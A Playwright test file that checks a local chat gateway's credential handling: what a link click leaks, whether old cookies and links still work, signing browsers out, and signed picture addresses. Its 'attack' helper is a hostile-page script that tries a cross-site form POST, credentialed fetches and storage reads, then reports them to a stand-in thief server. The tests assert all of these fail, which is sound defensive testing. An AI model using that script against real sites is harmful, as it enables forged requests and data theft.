// The credential of the page in a real browser, with a second program on another port of the same machine: what a click on
// a link hands over, what a hostile page can do with it, and how a browser is signed out.

import assert from "node:assert/strict";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, it, type TestContext } from "node:test";
import type { Browser, BrowserContext, Page } from "playwright-core";
import {
  answer,
  enter,
  type Gateway,
  openBrowser,
  patienceMs,
  say,
  shoot,
  startGateway,
  until,
  watch,
} from "./stage.ts";

type Thief = {
  readonly url: string;
  /** Everything that was sent to it: line and headers. */
  readonly got: string[];
  /** What its page could read, by name. */
  readonly report: () => Readonly<Record<string, unknown>> | null;
};

/** Tries everything that a page of another origin can try, and tells its own server what came of it. */
const attack = (target: string) => `<!doctype html><title>prize</title><body><script>
  const report = { referrer: document.referrer, opener: String(window.opener), cookie: document.cookie, storage: Object.keys(localStorage) };
  const asked = (name, work) => work.then((r) => (report[name] = r.type + " " + r.status), () => (report[name] = "refused"));
  const image = (name, path) => new Promise((done) => {
    const one = new Image();
    one.onload = () => done(report[name] = "shown");
    one.onerror = () => done(report[name] = "refused");
    one.src = "${target}" + path;
  });
  const form = document.createElement("form");
  const frame = document.createElement("iframe");
  frame.name = "inside";
  document.body.append(frame, form);
  form.method = "post"; form.action = "${target}/api/restart"; form.target = "inside"; form.enctype = "text/plain";
  form.submit();
  Promise.all([
    asked("fetch", fetch("${target}/api/status", { credentials: "include" })),
    asked("blind", fetch("${target}/api/restart", { method: "POST", mode: "no-cors", credentials: "include" })),
    asked("sign-in", fetch("${target}/api/sign-in", { method: "POST", body: "{}" })),
    image("image", "/api/chat/web"),
  ]).then(() => fetch("/report", { method: "POST", body: JSON.stringify(report) }));
</script>`;

async function startThief(t: TestContext, target: string): Promise<Thief> {
  const got: string[] = [];
  let report: Readonly<Record<string, unknown>> | null = null;
  const note = ({ method, url, headers }: IncomingMessage) => got.push(`${method} ${url} ${JSON.stringify(headers)}`);
  const serve = async (request: IncomingMessage, response: ServerResponse) => {
    note(request);
    let body = "";
    for await (const chunk of request) body += String(chunk);
    if (request.url === "/report") report = JSON.parse(body) as Record<string, unknown>;
    response.setHeader("content-type", "text/html").end(attack(target));
  };
  const server = createServer((request, response) => void serve(request, response));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, got, report: () => report };
}

async function fresh(t: TestContext, browser: Browser, more: Parameters<Browser["newContext"]>[0] = {}) {
  const context = await browser.newContext({ reducedMotion: "reduce", ...more });
  t.after(() => context.close());
  context.setDefaultTimeout(patienceMs);
  return { context, page: await context.newPage() };
}

const credentialOf = (page: Page) =>
  page.evaluate<string>("Object.entries(localStorage).find(([name]) => name.endsWith('.credential'))?.[1] ?? ''");

/** What somebody with the control token can still ask. */
async function bootOf(gateway: Gateway): Promise<string> {
  const headers = { authorization: `Bearer ${gateway.token}` };
  return ((await (await fetch(`${gateway.origin}/api/status`, { headers })).json()) as { boot: string }).boot;
}

describe("credential", () => {
  let browser: Browser;
  before(async () => (browser = await openBrowser()));
  after(() => browser.close());

  it("a click on a link to another local port hands nothing over, and what is tried from there is refused", async (t) => {
    const gateway = await startGateway(t);
    const thief = await startThief(t, gateway.origin);
    const { page, context, faults } = await enter(t, browser, gateway);
    const credential = await credentialOf(page);
    assert.match(credential, /^[\w-]{43}$/);
    assert.deepEqual(await context.cookies(), [], "there is no cookie at all");
    const boot = await bootOf(gateway);

    await say(page, `[a prize](${thief.url}/prize)`);
    const link = answer(page, "a prize").locator("a");
    await link.waitFor();
    const [opened] = await Promise.all([context.waitForEvent("page"), link.click()]);
    await opened.waitForLoadState();
    const report = await until(
      async () => thief.report(),
      (found) => found !== null,
      "the hostile page has tried all",
    );
    assert.deepEqual(report, {
      referrer: "",
      opener: "null",
      cookie: "",
      storage: [],
      fetch: "refused",
      blind: "opaque 0",
      "sign-in": "refused",
      image: "refused",
    });
    const all = thief.got.join("\n");
    for (const [name, value] of Object.entries({ credential, token: gateway.token, origin: gateway.origin }))
      assert.ok(
        !thief.got
          .filter((line) => line.startsWith("GET /prize"))
          .join()
          .includes(value),
        name,
      );
    for (const secret of [credential, gateway.token]) assert.ok(!all.includes(secret));
    assert.doesNotMatch(all, /"cookie"|"authorization"/);
    assert.equal(await bootOf(gateway), boot, "it was not restarted");
    await say(page, "still here?");
    await answer(page, "You said: still here?").waitFor();
    assert.deepEqual(faults, []);
  });

  it("the cookie of an earlier version opens nothing and is removed; an old bookmark says what to do", async (t) => {
    const gateway = await startGateway(t);
    const { page, context } = await fresh(t, browser);
    const old = {
      name: "everturn",
      value: gateway.token,
      url: gateway.origin,
      httpOnly: true,
      sameSite: "Strict",
    } as const;
    await context.addCookies([old]);
    await page.goto(`${gateway.origin}/?token=${gateway.token}`);
    await page.getByText("This bookmark is out of date.").waitFor();
    assert.ok(!page.url().includes(gateway.token));
    assert.deepEqual(await context.cookies(), []);
    const { page: own } = await enter(t, browser, gateway);
    await own.goto(`${gateway.origin}/?token=${gateway.token}`);
    await own.locator("#words").waitFor();
  });

  it("a link works once and in one browser; another name of this machine is another origin", async (t) => {
    const gateway = await startGateway(t);
    const link = await gateway.link();
    const { page, context } = await enter(t, browser, { link: async () => link });
    const other = await fresh(t, browser);
    await other.page.goto(link);
    await other.page.getByText("This link no longer works.").waitFor();
    // Whoever is signed in may open it again, also in a tab that shows the page already.
    await page.goto(link);
    await page.locator("#words").waitFor();
    const tab = await context.newPage();
    await tab.goto(gateway.origin);
    await tab.locator("#words").waitFor();
    await tab.goto(gateway.origin.replace("127.0.0.1", "localhost"));
    await tab.getByText("Open this page with a link.").waitFor();
    assert.equal(await credentialOf(tab), "");
    // A link that is pasted where the page is open already needs no reload.
    await other.page.evaluate(`location.hash = ${JSON.stringify(new URL(await gateway.link()).hash)}`);
    await other.page.locator("#words").waitFor();
    await gateway.restart();
    await say(page, "after the restart");
    await answer(page, "You said: after the restart").waitFor();
  });

  it("lists the browsers that are signed in, and signs them out at once", async (t) => {
    const gateway = await startGateway(t);
    const { page, context, faults } = await enter(t, browser, gateway);
    const { page: second } = await enter(t, browser, gateway);
    await say(second, "from the second browser");
    await answer(second, "from the second browser").waitFor();
    await page.getByText("Signed-in browsers").click();
    const rows = page.locator(".devices li");
    await until(
      () => rows.count(),
      (count) => count === 2,
      "both are listed",
    );
    assert.match((await rows.allInnerTexts()).join(), /Chrome on Linux\s+This browser/);
    await everyLook(page, "devices");
    await page.getByRole("button", { name: "Sign out Chrome on Linux" }).click();
    await until(
      () => rows.count(),
      (count) => count === 1,
      "one is left",
    );
    await second.getByText("This browser was signed out.").waitFor();
    await everyLook(second, "signed-out");
    const tab = await context.newPage();
    await tab.goto(gateway.origin);
    await tab.locator("#words").waitFor();
    await page.getByRole("button", { name: "Sign out this browser" }).click();
    for (const one of [page, tab]) await one.getByText("This browser was signed out.").waitFor();
    assert.deepEqual(faults, []);
    await backIn(context, page, tab, await gateway.link());
  });

  it("shows pictures and downloads by addresses that end with the device", async (t) => {
    const gateway = await startGateway(t);
    const { page, context } = await enter(t, browser, gateway);
    const picture = Buffer.from(
      "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAFklEQVR4nGP8z8Dwn4GBgYGJAQoYGBgAFAYCAWnBRaQAAAAASUVORK5CYII=",
      "base64",
    );
    await page.locator("input[type=file]").setInputFiles({ name: "dot.png", mimeType: "image/png", buffer: picture });
    await page.locator(".chip.ready").waitFor();
    await say(page, "look at this");
    const image = page.locator("article.user .picture img");
    await image.waitFor();
    await until(
      () => image.evaluate((one) => (one as unknown as { naturalWidth: number }).naturalWidth),
      (width) => width === 2,
      "the picture is drawn",
    );
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.locator("article.user a.file").first().click(),
    ]);
    assert.equal(download.suggestedFilename(), "dot.png");
    const address = await image.evaluate((one) => (one as unknown as { src: string }).src);
    assert.match(address, /signature=/);
    assert.ok(!address.includes(await credentialOf(page)));
    const stranger = await fresh(t, browser);
    assert.equal(
      (await stranger.page.goto(address))?.status(),
      200,
      "whoever has the address sees it, for some minutes",
    );
    const headers = { authorization: `Bearer ${gateway.token}` };
    await fetch(`${gateway.origin}/api/devices/revoke`, { method: "POST", headers });
    assert.equal((await fetch(address)).status, 401);
    await context.close();
  });
});

/** A new link in one tab lets the other tabs of the same browser in too. */
async function backIn(context: BrowserContext, page: Page, tab: Page, link: string): Promise<void> {
  const faults: string[] = [];
  watch(page, faults);
  await page.goto(link);
  await page.locator("#words").waitFor();
  await tab.locator("#words").waitFor();
  assert.deepEqual(await context.cookies(), []);
  assert.deepEqual(faults, []);
}

async function everyLook(page: Page, name: string): Promise<void> {
  for (const [size, width, height] of [
    ["desktop", 1280, 800],
    ["phone", 390, 844],
  ] as const) {
    await page.setViewportSize({ width, height });
    const menu = page.getByRole("button", { name: "Conversations" });
    if (size === "phone" && (await menu.isVisible())) await menu.click();
    for (const colorScheme of ["light", "dark"] as const) {
      await page.emulateMedia({ colorScheme });
      await shoot(page, `${name}-${size}-${colorScheme}`);
    }
  }
  await page.keyboard.press("Escape");
  await page.setViewportSize({ width: 1280, height: 800 });
}
